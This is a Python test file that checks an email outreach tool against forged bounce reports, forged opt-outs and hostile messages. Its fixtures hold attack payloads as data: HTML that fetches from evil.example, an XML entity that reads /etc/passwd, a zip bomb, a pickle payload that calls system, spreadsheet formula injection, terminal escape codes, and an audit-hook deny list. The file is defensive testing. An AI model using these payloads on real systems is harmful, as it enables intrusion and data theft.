"""Attacks by mail, each through the straight line: nobody is banned by it, nothing is fetched, run or answered.

Three attackers: a forger, who knows addresses, subjects, our domain and how our mail looks, but none of its ids; a
recipient, who knows the ids and links of the own mail; a stranger, whose mail wants to break its reader.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import socketserver
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from datetime import timedelta
from itertools import count
from pathlib import Path
from shutil import copyfile
from typing import Any

import pytest
from sqlalchemy import Engine, func, select

from classifier.judge import judge
from classifier.message import parse
from classifier.present import as_card
from classifier.verdict import Evidence, ReplyClass
from config import logs
from models.session import open_engine, reading, transaction
from models.tables.mail import InboundMessage, MessageState
from tests.journey.world import end_state
from tests.worker.commanding import OPT_OUT, Commands, reply
from tests.worker.small_world import NOW, SENDS, SENT_AT, furnish, send_all
from worker.apply import Box
from worker.desk import Desk
from worker.errors import MailboxError
from worker.imap.account import Account
from worker.imap.fetched import FetchedMessage
from worker.mailbox import connect
from worker.matching.known_sends import Sent
from worker.matching.links import Linked, Purpose, linked_of_addresses, make_token
from worker.process import process
from worker.rules import Rules
from worker.spreadsheet import guarded, unguarded

MILA, STOP, MX = "mila@outreach.example", "stop@outreach.example", "mx.outreach.example"
ANNA, BEN, CARA, DAN = (f"{name}@client.example" for name in ("anna", "ben", "cara", "dan"))
KEY = "a key of thirty-two characters, or more"
SHARED = [
    Sent(
        campaign="campaign-1",
        to=to,
        message_ids=("shared@us",),
        sent_at=SENT_AT,
        subject="Question 1",
        send_id=f"shared {to}",
    )
    for to in (CARA, DAN)
]
OF_ANNA = Sent(
    campaign="campaign-1",
    to=ANNA,
    message_ids=("anna-token@us",),
    sent_at=SENT_AT,
    subject="Question 1",
    send_id="with a token",
    token="x7fq2mzk",
)
DESK = Desk(
    box=Box(1, MILA, Rules(team_id=1, link_keys=(KEY,))),
    own_addresses=frozenset({MILA}),
    opt_out_aliases=frozenset({STOP}),
    authserv_ids=frozenset({MX}),
    classifier=None,
)
REFUSED = f"{MX}; spf=fail smtp.mailfrom=evil.example; dkim=none; dmarc=fail header.from=client.example"


def mail(
    sender: str,
    body: str = "Please unsubscribe me.",
    *,
    subject: str = "Re: Question 1",
    results: str = "",
    more: str = "",
) -> bytes:
    """Return a mail to Mila; `results` and `more` are whole header lines."""
    head = f"From: {sender}\nTo: {MILA}\nSubject: {subject}\nMessage-ID: <m1@evil.example>\nMIME-Version: 1.0\n"
    return f"{results}{more}{head}\n{body}\n".encode().replace(b"\n", b"\r\n")


def judged_by(*fields: str) -> str:
    """Return Authentication-Results fields, the topmost first."""
    return "".join(f"Authentication-Results: {each}\n" for each in fields)


def parts(kind: str, *content: tuple[str, str], more: str = "", sender: str = "MAILER-DAEMON@mx.evil.example") -> bytes:
    """Return a multipart from a mail system, of (content type, content)."""
    between = "".join(f"--b\nContent-Type: {each}\n\n{text}\n" for each, text in content)
    return mail(
        sender,
        f"{between}--b--",
        subject="Undelivered Mail Returned to Sender",
        more=f'Return-Path: <>\nContent-Type: multipart/{kind}; boundary="b"\n{more}',
    )


def our_mail(message_id: str, to: str) -> str:
    return f"From: {MILA}\nTo: {to}\nSubject: Question 1\nMessage-ID: {message_id}\n\nHello"


def failed(*addresses: str) -> str:
    each = "Final-Recipient: rfc822; {}\nAction: failed\nStatus: 5.1.1\nDiagnostic-Code: smtp; 550 5.1.1 user unknown\n"
    return "\n".join(["Reporting-MTA: dns; mx.evil.example\n", *(each.format(address) for address in addresses)])


def dsn(message_id: str, *addresses: str, more: str = "") -> bytes:
    return parts(
        "report; report-type=delivery-status",
        ("text/plain", "Your message could not be delivered."),
        ("message/delivery-status", failed(*addresses)),
        ("message/rfc822", our_mail(message_id, addresses[0])),
        more=more,
    )


def arf(message_id: str, address: str, more: str = "") -> bytes:
    return parts(
        "report; report-type=feedback-report",
        ("text/plain", "This is an abuse report."),
        ("message/feedback-report", f"Feedback-Type: abuse\nVersion: 1\nOriginal-Rcpt-To: {address}\n"),
        ("message/rfc822", our_mail(message_id, address)),
        sender="fbl@evil.example",
        more=more,
    )


def ses(kind: str, list_name: str, address: str) -> bytes:
    about = {"bounceType": "Permanent", list_name: [{"emailAddress": address, "status": "5.1.1"}]}
    content = {"notificationType": kind, kind.lower(): about, "mail": {"messageId": "1", "commonHeaders": {}}}
    return mail("no-reply@sns.amazonaws.com", json.dumps(content), subject="AWS Notification Message")


FORGED: dict[str, bytes] = {
    "a delivery report about somebody we mailed, with an id that is not ours": dsn("<guess@us>", ANNA),
    "a delivery report about somebody we never mailed": dsn("<guess@us>", "zoe@client.example"),
    "a delivery report about everybody": dsn("<guess@us>", ANNA, BEN, CARA, DAN, "zoe@client.example"),
    "a delivery report that guesses at three thousand ids": dsn(
        " ".join(f"<{number}@us>" for number in range(3_000)) + " <anna-1-0@us>", ANNA
    ),
    "a delivery report in words": mail(
        "Mail Delivery Subsystem <mailer-daemon@evil.example>",
        f"Your message to {ANNA} could not be delivered:\n550 5.1.1 User unknown\n\n" + our_mail("<guess@us>", ANNA),
        subject="Delivery Status Notification (Failure)",
        more="Return-Path: <>\n",
    ),
    "failed recipients in a field": mail(
        "mailer-daemon@evil.example", "550 user unknown", more=f"Return-Path: <>\nX-Failed-Recipients: {ANNA}, {BEN}\n"
    ),
    "a complaint with an id that is not ours": arf("<guess@us>", ANNA),
    "a notification of Amazon about a bounce": ses("Bounce", "bouncedRecipients", ANNA),
    "a notification of Amazon about a complaint": ses("Complaint", "complainedRecipients", ANNA),
    "a receipt that says the mail was deleted unread": parts(
        "report; report-type=disposition-notification",
        ("text/plain", "Your message was deleted without being read."),
        (
            "message/disposition-notification",
            f"Final-Recipient: rfc822; {ANNA}\nOriginal-Message-ID: <guess@us>\nDisposition: manual-action; deleted\n",
        ),
    ),
    "an opt-out with a forged sender": mail(f"Anna <{ANNA}>", results=judged_by(REFUSED)),
    "a forger's field below that of our provider": mail(
        ANNA, results=judged_by(f"{MX}; spf=fail; dkim=none", f"{MX}; dmarc=pass header.from=client.example")
    ),
    "a forger's field for another method below": mail(
        ANNA, results=judged_by(f"{MX}; spf=fail; dkim=none", f"{MX}; dkim=pass header.d=client.example")
    ),
    "a forger's field of another server above": mail(ANNA, results=judged_by("mx.evil.example; dmarc=pass", REFUSED)),
    "a forger's words in a comment": mail(
        ANNA, results=judged_by(f"{MX} 1 (dmarc=pass); dmarc=fail (a comment; dmarc=pass) header.from=client.example")
    ),
    "a folded field with a version": mail(
        ANNA,
        results=f"Authentication-Results: {MX} 1;\n\tspf/1 = fail smtp.mailfrom=evil.example;\n\tdmarc\n\t=\n\tfail\n",
    ),
    "a forger's words as a sender's address": mail(
        ANNA, results=judged_by(f'{MX}; spf=fail smtp.mailfrom="; dmarc=pass; dkim=pass; "@evil.example; dmarc=none')
    ),
    "a forger's words as a sender's address that leaves a comment open": mail(
        ANNA,
        results=judged_by(
            f'{MX}; spf=fail (domain of ";dkim=pass;("@evil.example does not designate 192.0.2.1)'
            ' smtp.mailfrom=";dkim=pass;("@evil.example; dmarc=none'
        ),
    ),
    "a second sender that is authentic, and an open comment": mail(
        ANNA,
        subject="Re: Question 1\nFrom: x@evil.example",
        results=judged_by(f"{MX}; dmarc=pass header.from=evil.example; spf=pass smtp.mailfrom=(@evil.example"),
    ),
    "a signature of the forger's own domain": mail(
        ANNA, results=judged_by(f"{MX}; spf=fail smtp.mailfrom=evil.example; dkim=pass header.d=evil.example")
    ),
    "a second sender that is authentic": mail(
        ANNA,
        subject="Re: Question 1\nFrom: x@evil.example",
        results=judged_by(f"{MX}; dmarc=pass header.from=evil.example"),
    ),
    "a mail to our alias without a token": mail(ANNA, subject="unsubscribe", more=f"Cc: {STOP}\n"),
    "a mail to our alias with a made-up token": mail(
        ANNA, subject=f"unsubscribe {'a' * 40}", more=f"Delivered-To: {STOP}\n"
    ),
    "a mail to our alias with the token of a booking link": mail(
        "x@evil.example", subject="unsubscribe ANNAS-BOOKING", more=f"Cc: {STOP}\n"
    ),
    "a mail to our alias with a token signed by another key": mail(
        "x@evil.example", subject="unsubscribe FORGED-LINK", more=f"Cc: {STOP}\n"
    ),
    "a mail to our alias with Anna's token turned into Ben's": mail(
        "x@evil.example", subject="unsubscribe TURNED-LINK", more=f"Cc: {STOP}\n"
    ),
    "the button of a mail program": mail(ANNA, "", subject="unsubscribe", more="X-Apple-Unsubscribe: true\n"),
    "a guess at plus addresses": mail(
        ANNA,
        subject="hello",
        more="Cc: " + ", ".join(f"mila+x{number}@outreach.example" for number in range(500)) + "\n",
    ),
    "an answer address": mail("x@evil.example", more=f"Reply-To: {ANNA}\nSender: {ANNA}\nReturn-Path: <{ANNA}>\n"),
    "an address for a name": mail(f'"{ANNA}" <x@evil.example>'),
    "a sender behind a second bracket": mail(f"<{ANNA}> <x@evil.example>"),
    "a Cyrillic letter in the address": mail("<\u0430nna@client.example>"),
    "a Cyrillic letter in the domain": mail("<anna@\u0441lient.example>"),
    "a wide letter in the address": mail("<\uff41nna@client.example>"),
    "a small letter of another script": mail("<mi\u212ae@client.example>"),
    "an invisible mark in the address": mail("<an\u00adna@client.example>"),
    "hundreds of references": mail(
        ANNA, subject="hello", more="References: <anna-1-0@us>\n" + "".join(f" <{n}@us>\n" for n in range(600))
    ),
    "an id of ours in the words alone": mail(
        "x@evil.example", "Please unsubscribe <anna-1-0@us>.\n\n" + our_mail("<anna-1-0@us>", ANNA)
    ),
    "a header field in a subject": mail(
        "x@evil.example", subject="=?utf-8?q?hello=0D=0AIn-Reply-To=3A_=3Canna-1-0=40us=3E?="
    ),
    "a header field in the words": mail("x@evil.example", "\nIn-Reply-To: <anna-1-0@us>\n\nPlease unsubscribe me."),
    "a report inside a report inside a mail": parts(
        "mixed",
        ("text/plain", "See below."),
        (
            "message/rfc822",
            dsn("<anna-1-0@us>", ANNA).decode().replace("\r\n", "\n").replace("--b", "--c").replace('"b"', '"c"'),
        ),
        sender="x@evil.example",
        more="User-Agent: Mail\n",
    ),
}
"""What a forger sends; it may make a person look, and give nobody a status."""

OWN = "In-Reply-To: <anna-1-0@us>\n"
LINK = {"subject": "unsubscribe ANNAS-LINK", "more": f"Cc: {STOP}\n"}
INSIDE: dict[str, bytes] = {
    "a delivery report about another": dsn("<anna-1-0@us>", BEN),
    "a delivery report about both": dsn("<anna-1-0@us>", BEN, ANNA),
    "a delivery report about a whole domain": dsn("<anna-1-0@us>", "postmaster@client.example", BEN, CARA),
    "a complaint about another": arf("<anna-1-0@us>", BEN),
    "an opt-out in the name of another": mail(BEN, more=OWN),
    "an opt-out in the name of another, whom our provider does not believe": mail(
        BEN, more=OWN, results=judged_by(REFUSED)
    ),
    "an opt-out in the name of somebody never mailed, whom our provider does not believe": mail(
        "zoe@client.example", more=OWN, results=judged_by(REFUSED)
    ),
    "the own link in the name of another": mail(BEN, **LINK),
    "the own link in the name of another, whom our provider does not believe": mail(
        BEN, **LINK, results=judged_by(REFUSED)
    ),
    "the own token in the name of another": mail(BEN, more="Delivered-To: mila+x7fq2mzk@outreach.example\n"),
    "a shared id in the name of the other, whom our provider does not believe": mail(
        DAN, more="In-Reply-To: <shared@us>\n", results=judged_by(REFUSED)
    ),
    "a delivery report about the other of a shared id, which our provider does not believe": dsn(
        "<shared@us>", DAN, more=judged_by(f"{MX}; dmarc=fail header.from=mx.evil.example")
    ),
    "ids of two people": mail(ANNA, more="In-Reply-To: <anna-1-0@us>\nReferences: <shared@us> <ben-1-0@elsewhere>\n"),
}
"""What Anna sends to hurt others; herself she may take off the list."""

ZIP = io.BytesIO()
with zipfile.ZipFile(ZIP, "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("invoice.txt", b"unsubscribe " * 2_000_000)
HOSTILE_HTML = (
    "<html><head><meta http-equiv=refresh content='0;url=https://evil.example/m'>"
    "<link rel=stylesheet href='https://evil.example/c'><style>@import url(https://evil.example/i)</style>"
    "<script>fetch('https://evil.example/s')</script></head><body onload=\"location='https://evil.example/o'\">"
    "<img src='https://evil.example/p.gif'><iframe src='file:///etc/passwd'></iframe>"
    "<form action='https://evil.example/f' method=post><input name=password></form>"
    "<a href='https://evil.example/u'>Yes please</a><object data='https://evil.example/d'></object></body></html>"
)
BOMBS: dict[str, bytes] = {
    "a page that wants to be shown": mail("x@evil.example", HOSTILE_HTML, more="Content-Type: text/html\n"),
    "a page without end": mail("x@evil.example", "<table><tr><td>" * 20_000, more="Content-Type: text/html\n"),
    "entities in entities": mail(
        "x@evil.example",
        "<!DOCTYPE a [<!ENTITY a 'aa'><!ENTITY b '&a;&a;'><!ENTITY c SYSTEM 'file:///etc/passwd'>]><p>&b;&c;</p>",
        more="Content-Type: text/html\n",
    ),
    "an archive that unpacks to 24 MB": parts(
        "mixed",
        ("text/plain", "See the invoice."),
        ("application/zip; name=invoice.zip\nContent-Transfer-Encoding: 8bit", ZIP.getvalue().decode("latin-1")),
        sender="x@evil.example",
    ),
    "a program": parts(
        "mixed",
        ("text/plain", "Run me."),
        ("application/x-sh; name=run.sh", "#!/bin/sh\ntouch /tmp/owned"),
        ("application/octet-stream; name=model.artifact", "cos\nsystem\n(S'true'\ntR."),
        sender="x@evil.example",
    ),
    "a part that lies elsewhere": parts(
        "mixed",
        ("text/plain", "See the file."),
        ('message/external-body; access-type=URL; URL="http://evil.example/x"', "Content-Type: text/plain\n"),
        ('message/external-body; access-type=local-file; name="/etc/passwd"', "Content-Type: text/plain\n"),
        sender="x@evil.example",
    ),
    "a calendar that wants to be fetched": mail(
        "x@evil.example",
        "BEGIN:VCALENDAR\nMETHOD:REPLY\nBEGIN:VEVENT\nUID:1\nDTSTART;TZID=https://evil.example/t:20260601T090000\n"
        "ATTACH:https://evil.example/a\nATTENDEE;PARTSTAT=DECLINED:mailto:anna@client.example\n"
        "RRULE:FREQ=SECONDLY;COUNT=999999999\nEND:VEVENT\nEND:VCALENDAR",
        more="Content-Type: text/calendar; method=REPLY\n",
    ),
    "messages in messages": b"From: x@evil.example\r\n"
    + b"Content-Type: message/rfc822\r\n\r\n" * 2_000
    + b"unsubscribe",
    "a giant field": mail("x@evil.example", more="X-Long: " + "a b " * 25_000 + "\n"),
    "thousands of fields": mail("x@evil.example", more="X-Many: y\n" * 10_000),
    "who asks for a receipt": mail(
        ANNA,
        "Yes, please.",
        more="Disposition-Notification-To: anna@client.example\nReturn-Receipt-To: anna@client.example\n" + OWN,
    ),
    "who asks for a confirmation": mail(
        "confirm@evil.example",
        "Please confirm that you are human: https://evil.example/c",
        subject="Confirm your message",
    ),
    **{
        f"a text that makes patterns go back and forth: {piece[:12]!r}": mail(
            "x@evil.example", piece * (40_000 // len(piece))
        )
        for piece in (
            "a@",
            "on 1.1.2026 a ",
            "unsubscribe me not ",
            "> > ",
            "550 5.1.1 <",
            "until 3/4 ",
            "((",
            "-- \n",
            " \t",
        )
    },
    "results that make patterns go back and forth": mail(
        "x@evil.example", results=judged_by(f"{MX}; " + "dkim / 1 = ( " * 2_000, f'{MX}; "' + '\\"(' * 5_000)
    ),
    "a subject of prefixes": mail(ANNA, subject="Re: " * 5_000 + "Question"),
}
"""What wants to be opened, run, answered, or never to end."""

QUIET = {"judged", "unmatched"}
UIDS = count(1)


@pytest.fixture(scope="module")
def world(sqlite_template: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    """A database with mail sent to four people, and the tokens of links."""
    path = tmp_path_factory.mktemp("trust") / "world.sqlite"
    copyfile(sqlite_template, path)
    engine = open_engine(f"sqlite:///{path}")
    tokens = furnished(engine)
    engine.dispose()
    return path, tokens


def furnished(engine: Engine) -> dict[str, str]:
    furnish(engine)
    mike = replace(OF_ANNA, to="mike@client.example", message_ids=("mike@us",), send_id="mike", token=None)
    send_all(engine, [*SENDS, *SHARED, OF_ANNA, mike])
    with reading(engine) as session:
        anna, ben = (linked_of_addresses(session, 1, [each], "campaign-1")[0] for each in (ANNA, BEN))
    return tokens_of(anna, ben)


def tokens_of(anna: Linked, ben: Linked) -> dict[str, str]:
    good, other = (make_token(KEY, Purpose.UNSUBSCRIBE, each) for each in (anna, ben))
    return {
        "ANNAS-LINK": good,
        "ANNAS-BOOKING": make_token(KEY, Purpose.BOOKING, anna),
        "FORGED-LINK": make_token("another key of thirty-two characters", Purpose.UNSUBSCRIBE, anna),
        "TURNED-LINK": other[:13] + good[13:],
    }


@pytest.fixture
def engine(world: tuple[Path, dict[str, str]], tmp_path: Path) -> Iterator[Engine]:
    copyfile(world[0], tmp_path / "world.sqlite")
    engine = open_engine(f"sqlite:///{tmp_path}/world.sqlite")
    yield engine
    engine.dispose()


@pytest.fixture
def tokens(world: tuple[Path, dict[str, str]]) -> dict[str, str]:
    return world[1]


_forbidden = (
    "socket.",
    "subprocess.",
    "os.system",
    "os.exec",
    "os.posix_spawn",
    "os.fork",
    "pickle.",
    "urllib.",
    "smtplib.",
    "webbrowser.",
)
_seen: list[str] | None = None


def _audit(event: str, _arguments: object) -> None:
    if _seen is not None and event.startswith(_forbidden):
        _seen.append(event)


sys.addaudithook(_audit)


@contextmanager
def alone() -> Iterator[None]:
    """Fail where the code inside reaches for the network, another program or somebody's objects."""
    global _seen  # noqa: PLW0603 - an audit hook cannot be taken off again
    _seen = seen = []
    try:
        yield
    finally:
        _seen = None
    assert seen == []


def test_whoever_reaches_out_is_seen() -> None:
    with pytest.raises(AssertionError, match="Popen"), alone():
        subprocess.run([sys.executable, "-c", ""], check=True)


def receive(engine: Engine, tokens: dict[str, str], *raws: bytes, junk: bool = False) -> None:
    """Process mails as a poll does, in one batch."""
    for name, token in tokens.items():
        raws = tuple(raw.replace(name.encode(), token.encode()) for raw in raws)
    fetched = [
        FetchedMessage(MILA, "INBOX", 1, next(UIDS), SENT_AT + timedelta(hours=30), raw, len(raw), junk=junk)
        for raw in raws
    ]
    process(DESK, fetched, lambda: transaction(engine), NOW)


def banned(engine: Engine) -> set[str]:
    return {target for target, _, _ in end_state(engine).dne}


def changed(engine: Engine) -> set[str]:
    """Return whose status is another than it was."""
    return {address for (_, address), (status, *_) in end_state(engine).recipients.items() if status != "Active"}


@pytest.mark.parametrize("what", FORGED)
def test_who_knows_no_id_of_ours_bans_nobody(engine: Engine, tokens: dict[str, str], what: str) -> None:
    with alone():
        receive(engine, tokens, FORGED[what])
    assert banned(engine) == set()
    assert changed(engine) == set()


@pytest.mark.parametrize("what", INSIDE)
def test_a_recipient_bans_nobody_else(engine: Engine, tokens: dict[str, str], what: str) -> None:
    with alone():
        receive(engine, tokens, INSIDE[what])
    assert banned(engine) <= {ANNA}
    assert changed(engine) <= {ANNA}


def test_of_junk_the_right_sender_and_subject_ban_nobody(engine: Engine, tokens: dict[str, str]) -> None:
    receive(engine, tokens, mail(ANNA), junk=True)
    assert banned(engine) == changed(engine) == set()
    receive(engine, tokens, mail(BEN, more="In-Reply-To: <ben-1-0@us>\n"), junk=True)
    assert banned(engine) == {BEN}


def test_a_recipient_may_still_leave_by_the_own_link_and_the_own_id(engine: Engine, tokens: dict[str, str]) -> None:
    receive(engine, tokens, mail(ANNA, **LINK), mail(BEN, more="In-Reply-To: <ben-1-0@us>\n"))
    assert banned(engine) == {ANNA, BEN}


def test_a_link_that_is_sent_again_by_others_bans_nobody_but_its_owner(engine: Engine, tokens: dict[str, str]) -> None:
    for number in range(3):
        receive(engine, tokens, mail(BEN, **LINK, results=judged_by(REFUSED)).replace(b"m1@", b"m%d@" % number))
    with reading(engine) as session:
        assert session.scalar(select(func.count()).where(InboundMessage.state == MessageState.JUDGED)) == 3
    assert banned(engine) == {ANNA}


def test_a_recipient_does_not_take_over_the_other_address_of_another(engine: Engine, tokens: dict[str, str]) -> None:
    bens = "ben@private.example"
    late = replace(OF_ANNA, message_ids=("late@us",), send_id="late", token=None, sent_at=SENT_AT + timedelta(hours=28))
    send_all(engine, [late])
    receive(engine, tokens, mail(bens, "Sounds good, tell me more.", more="In-Reply-To: <ben-1-0@us>\n"))
    receive(engine, tokens, mail(bens, "Thanks.", more=OWN).replace(b"m1@", b"m2@"))
    receive(engine, tokens, mail(bens).replace(b"m1@", b"m3@"))
    assert banned(engine) == {BEN, bens}


class _NoneOfMail(zipfile.ZipFile):
    """An archive of our own, from a file; whoever opens one from a mail fails, and the mail is set aside."""

    def __init__(self, file: Any, *more: Any, **options: Any) -> None:
        assert not isinstance(file, io.BytesIO)
        super().__init__(file, *more, **options)


@pytest.mark.parametrize("what", BOMBS)
def test_nothing_in_a_mail_is_opened_run_or_answered(
    engine: Engine, tokens: dict[str, str], what: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(zipfile, "ZipFile", _NoneOfMail)
    with alone():
        receive(engine, tokens, BOMBS[what])
    with reading(engine) as session:
        assert {state.value for state in session.scalars(select(InboundMessage.state))} <= QUIET
    assert banned(engine) == set()


def test_all_attacks_in_one_batch_ban_nobody_on_either_database(database_url: str) -> None:
    engine = open_engine(database_url)
    try:
        tokens = furnished(engine)
        receive(engine, tokens, *FORGED.values(), *BOMBS.values())
        assert banned(engine) == set()
        with reading(engine) as session:
            aside = select(func.count()).where(InboundMessage.state == MessageState.SET_ASIDE)
            assert session.scalar(aside) == 0
    finally:
        engine.dispose()


ESCAPES = "Re: Our offer \x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp.exe\u2028[/red] \u200f"


def test_what_a_stranger_wrote_gives_the_terminal_no_order(hostile: Commands) -> None:
    for words in (
        ("messages", "list", "--unmatched"),
        ("messages", "show", "1"),
        ("review", "list"),
        ("recipients", "show", ANNA),
    ):
        for form in ((), ("--json",)):
            said = hostile.done(*words, *form)
            assert said.out
            assert all(line.replace("\t", "").isprintable() for line in said.out.split("\n")), words


@pytest.fixture
def hostile(run: Commands) -> Commands:
    """Commands over a mail to nobody and one to Anna, both with orders to the terminal wherever a mail has words."""
    run.add_mailbox()
    answers = run.send(ANNA)
    unsure = replace(reply(ReplyClass.INTERESTED, sure=False), visible_text=ESCAPES, evidence=(Evidence("x", ESCAPES),))
    run.receive(unsure, "stranger@evil.example", None, ESCAPES)
    run.receive(unsure, ANNA, answers, ESCAPES)
    return run


def test_a_card_gives_the_terminal_no_order() -> None:
    sender = f'"{ESCAPES}" <x@evil.example>'
    parsed = parse(mail(sender, ESCAPES, subject=ESCAPES, more="Content-Type: text/plain; charset=utf-8\n"))
    card = as_card({"file": f"{ESCAPES}.eml"}, parsed, judge(parsed, DESK.context(NOW)))
    assert all(line.isprintable() for line in card.split("\n"))


@pytest.mark.parametrize(
    "cell", ["=1+1", "'=1+1", "''=1+1", "+1", "-1", "@a", "\t=1", "\n=1", "\uff1d1", "'hello", "", "a=1", "'"]
)
def test_a_cell_is_text_to_a_spreadsheet_and_comes_back_as_it_was(cell: str) -> None:
    assert not guarded(cell).startswith(("=", "+", "-", "@", "\t", "\n", "\uff1d"))
    assert unguarded(guarded(cell)) == cell


def test_an_export_of_labels_holds_no_formula_and_can_be_imported(run: Commands) -> None:
    text = '=HYPERLINK("https://evil.example","Yes please, send me the offer")'
    row = json.dumps({"class": "Interested", "text": text, "subject": "@SUM(1)", "language": "en"})
    run.done("labels", "import", run.file("labels.jsonl", row))
    run.done("labels", "export", "--out", "labels.csv")
    with (run.folder / "labels.csv").open(encoding="utf-8", newline="") as file:
        (exported,) = csv.DictReader(file)
    assert (exported["text"], exported["subject"]) == (f"'{text}", "'@SUM(1)")
    # That the same is there already says that it came back as it was.
    assert "label 1 says the same already" in run("labels", "import", "labels.csv").err


def test_an_export_of_do_not_email_holds_no_formula_and_can_be_imported(run: Commands) -> None:
    run.add_mailbox()
    run.receive(OPT_OUT, "=1+1@evil.example", run.send(ANNA))
    out = run.done("dne", "export").out
    assert "\n'=1+1@evil.example," in out
    said = run.done("dne", "import", run.file("dne.csv", out), "--json")
    assert {each["target"] for each in run.done("dne", "list", "--json").rows} == {ANNA, "=1+1@evil.example"}
    assert said.rows


@pytest.mark.parametrize("form", ["text", "json"])
@pytest.mark.usefixtures("run")  # It puts the handlers back that this test replaces.
def test_what_a_server_says_makes_no_line_of_the_log(capsys: pytest.CaptureFixture[str], form: str) -> None:
    words = f"{ESCAPES}\r\n2026-01-01 00:00:00,000 ERROR   worker: forged\x85\ud800"
    logs.start("INFO", form)
    log = logging.getLogger("worker.test")
    log.warning("the server said: %s", words)
    log.error("a poll failed: %s", words, exc_info=MailboxError(words, permanent=False))
    lines = capsys.readouterr().err.removesuffix("\n").split("\n")
    assert len(lines) > 1
    assert all(line.isprintable() for line in lines)
    assert not [line for line in lines if line.startswith("2026-01-01")]


@pytest.mark.parametrize("greeting", [b"* OK ready", b"* PREAUTH ready", b"* OK [CAPABILITY IMAP4rev1 STARTTLS] ready"])
def test_no_password_goes_out_where_encryption_is_refused(greeting: bytes) -> None:
    with answering_no(greeting) as (port, heard):
        account = Account("127.0.0.1", port, "mila", "open sesame", security="starttls", timeout=5)
        with pytest.raises(MailboxError), connect(account, MILA):
            pass
    assert heard
    assert not any(b"sesame" in line or b"LOGIN" in line or b"AUTHENTICATE" in line for line in heard)


@contextmanager
def answering_no(greeting: bytes) -> Iterator[tuple[int, list[bytes]]]:
    """Listen as an IMAP server that grants nothing but to be asked what it can; give its port and what it hears."""
    heard: list[bytes] = []

    class Refusing(socketserver.StreamRequestHandler):
        def handle(self) -> None:
            self.wfile.write(greeting + b"\r\n")
            for line in self.rfile:
                heard.append(line)
                tag, command = line.split()[:2]
                known = command.upper() == b"CAPABILITY"
                self.wfile.write(b"* CAPABILITY IMAP4rev1 AUTH=PLAIN\r\n" if known else b"")
                self.wfile.write(tag + (b" OK done\r\n" if known else b" NO refused\r\n"))

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Refusing) as server:
        server.daemon_threads = True
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        try:
            yield server.server_address[1], heard
        finally:
            server.shutdown()
            thread.join()
